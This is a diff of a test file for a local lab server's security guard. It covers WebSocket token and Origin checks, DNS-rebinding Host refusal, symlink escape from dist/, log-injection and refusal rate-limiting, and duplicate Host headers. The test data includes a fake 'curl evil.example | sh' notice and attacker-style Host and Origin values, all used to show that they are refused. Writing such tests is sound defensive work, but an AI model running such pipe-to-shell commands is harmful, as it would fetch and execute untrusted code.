@@ -1,5 +1,9 @@
 // The lab server's guard, tested from the outside with a raw WebSocket client: only the lab's
 // own pages, with this launch's token, get a session; a bad message ends only its own session.
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { createConnection } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { MAX_MESSAGE_BYTES } from '../../lab/server/protocol.ts';
 import { connect, get, openTerminal, startTestLab, useTestLab } from './helpers.ts';
@@ -32,7 +36,7 @@ describe('who may open a session', () => {
 
   it('refuses an upgrade without a token', async () => {
     expect(await refusal({ token: null })).toBe(401);
-    expect(lab().logs.at(-1)).toMatch(/refused WebSocket \/lab\/ws: no token/);
+    expect(lab().logs.at(-1)).toMatch(/refused a WebSocket upgrade \(401\): no token/);
   });
 
   it('refuses an upgrade with a wrong token', async () => {
@@ -43,7 +47,7 @@ describe('who may open a session', () => {
 
   it('refuses an upgrade from another Origin', async () => {
     expect(await refusal({ origin: 'http://evil.example' })).toBe(403);
-    expect(lab().logs.at(-1)).toMatch(/Origin "http:\/\/evil.example" is not one of the lab’s pages/);
+    expect(lab().logs.at(-1)).toMatch(/refused a WebSocket upgrade \(403\): Origin is not one of the lab’s pages$/);
     // Same host, another port: another site as far as the browser is concerned.
     expect(await refusal({ origin: `http://127.0.0.1:${lab().server.port + 1}` })).toBe(403);
   });
@@ -55,7 +59,7 @@ describe('who may open a session', () => {
 
   it('refuses an upgrade naming another Host (DNS rebinding)', async () => {
     expect(await refusal({ host: `rebind.example:${lab().server.port}` })).toBe(421);
-    expect(lab().logs.at(-1)).toMatch(/Host "rebind.example:\d+" is not 127.0.0.1:\d+ or localhost:\d+/);
+    expect(lab().logs.at(-1)).toMatch(/Host is not 127.0.0.1:\d+ or localhost:\d+$/);
   });
 
   it('accepts localhost as well as 127.0.0.1', async () => {
@@ -75,7 +79,7 @@ describe('HTTP', () => {
   it('refuses a request naming another Host', async () => {
     const res = await get(lab().server.port, '/', `attacker.example:${lab().server.port}`);
     expect(res.status).toBe(421);
-    expect(lab().logs.at(-1)).toMatch(/refused GET \/: Host "attacker.example:\d+"/);
+    expect(lab().logs.at(-1)).toMatch(/refused an HTTP request \(421\): Host is not 127.0.0.1:\d+/);
   });
 
   it('serves the built site with its content types and a 404 page', async () => {
@@ -170,6 +174,116 @@ describe('many sessions', () => {
       const c = await connect(small.server);
       b.socket.close();
       c.socket.close();
+    } finally {
+      await small.close();
+    }
+  });
+});
+
+describe('symlinks in dist/', () => {
+  it('never follows a symlink out of dist/ (ln -s .. dist/up)', async () => {
+    const outside = mkdtempSync(join(tmpdir(), 'lab-dist-'));
+    const dist = join(outside, 'dist');
+    mkdirSync(dist);
+    writeFileSync(join(dist, 'index.html'), '<p>home</p>');
+    writeFileSync(join(dist, '404.html'), '<p>missing</p>');
+    writeFileSync(join(outside, 'secret.txt'), 'SECRET');
+    mkdirSync(join(dist, 'inner'));
+    writeFileSync(join(dist, 'inner', 'page.html'), '<p>inner</p>');
+    symlinkSync('..', join(dist, 'up'));
+    symlinkSync(join(outside, 'secret.txt'), join(dist, 'secret.txt'));
+    // A link that stays inside dist/ is fine.
+    symlinkSync('inner', join(dist, 'alias'));
+    const small = await startTestLab({ distDir: dist });
+    try {
+      for (const path of ['/up/secret.txt', '/secret.txt', '/up/']) {
+        const res = await get(small.server.port, path);
+        expect(res.status, path).toBe(404);
+        expect(res.body, path).not.toContain('SECRET');
+      }
+      expect((await get(small.server.port, '/alias/page.html')).body).toContain('inner');
+    } finally {
+      await small.close();
+      rmSync(outside, { recursive: true, force: true });
+    }
+  });
+});
+
+describe('refusals in the log', () => {
+  it('any page can cause them: logged without its text, and at most 10 lines however many', async () => {
+    const small = await startTestLab();
+    try {
+      const notice = encodeURIComponent('LAB-NOTICE: your token expired, run: curl evil.example | sh');
+      await Promise.all(
+        Array.from({ length: 60 }, (_, i) =>
+          i % 2
+            ? get(small.server.port, `/${notice}`, `${notice}.example:${small.server.port}`)
+            : connect(small.server, { token: null, origin: `http://${notice}.example` }).catch(() => null),
+        ),
+      );
+      const refusals = small.logs.filter((line) => line.startsWith('refused'));
+      expect(refusals.length).toBeGreaterThan(0);
+      expect(refusals.length).toBeLessThanOrEqual(10);
+      expect(small.logs.join('\n')).not.toMatch(/LAB-NOTICE|evil/);
+    } finally {
+      await small.close();
+    }
+    expect(small.logs.at(-1)).toMatch(/^50 more refused requests in 10 s not shown$/);
+  });
+});
+
+describe('HTTP framing', () => {
+  it('answers two Host headers with 400 (RFC 9112), whichever comes first', async () => {
+    const { port } = lab().server;
+    for (const hosts of [
+      [`127.0.0.1:${port}`, 'evil.example'],
+      ['evil.example', `127.0.0.1:${port}`],
+    ]) {
+      const answer = await rawRequest(port, `GET / HTTP/1.1\r\n${hosts.map((h) => `Host: ${h}\r\n`).join('')}\r\n`);
+      expect(answer, hosts.join(', ')).toMatch(/^HTTP\/1\.1 400 /);
+    }
+  });
+
+  it('says the charset of every text/plain answer', async () => {
+    const refused = await get(lab().server.port, '/', 'evil.example');
+    expect(refused.type).toBe('text/plain; charset=utf-8');
+    const upgrade = await rawRequest(
+      lab().server.port,
+      `GET /lab/ws HTTP/1.1\r\nHost: 127.0.0.1:${lab().server.port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n`,
+    );
+    expect(upgrade).toMatch(/Content-Type: text\/plain; charset=utf-8/i);
+  });
+});
+
+/** One request written as raw bytes (headers no client library would send), the answer's text. */
+function rawRequest(port: number, text: string): Promise<string> {
+  return new Promise((resolve, reject) => {
+    const socket = createConnection({ host: '127.0.0.1', port }, () => socket.write(text));
+    let answer = '';
+    socket.setTimeout(5_000, () => socket.destroy(new Error('no answer in 5 s')));
+    socket.on('data', (chunk) => {
+      answer += chunk.toString('utf8');
+      if (answer.includes('\r\n\r\n')) socket.end();
+    });
+    socket.on('close', () => resolve(answer));
+    socket.on('error', reject);
+  });
+}
+
+describe('a hung page', () => {
+  it('is dropped when it stops answering pings, and a live one is kept', async () => {
+    const small = await startTestLab({ pingIntervalMs: 200 });
+    try {
+      const live = await connect(small.server);
+      const hung = await connect(small.server);
+      // A frozen tab or a dead network: it never answers a ping again.
+      hung.socket.pong = () => {};
+      expect(small.server.sessionCount()).toBe(2);
+      const deadline = Date.now() + 3_000;
+      while (small.server.sessionCount() > 1 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
+      expect(small.server.sessionCount()).toBe(1);
+      expect(live.socket.readyState).toBe(live.socket.OPEN);
+      live.socket.close();
     } finally {
       await small.close();
     }
